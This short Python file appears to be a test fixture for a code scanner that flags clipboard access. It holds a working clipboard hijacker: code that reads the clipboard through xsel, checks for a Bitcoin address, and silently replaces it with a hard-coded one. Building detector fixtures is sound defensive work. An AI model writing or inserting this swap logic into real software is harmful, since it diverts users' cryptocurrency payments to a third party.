# ruff: noqa
# fmt: off
"""xsel through os.popen, an address swapped back through xsel --input."""
import os
import re

text = os.popen("xsel --clipboard --output").read()  # expect: clipboard-access
if re.match(r"^[13][a-km-zA-HJ-NP-Z1-9]{25,34}$", text):
    os.system("echo -n 1BoatSLRHtKNngkdXEeobR76b53LETtpyT | xsel --clipboard --input")  # expect: clipboard-access
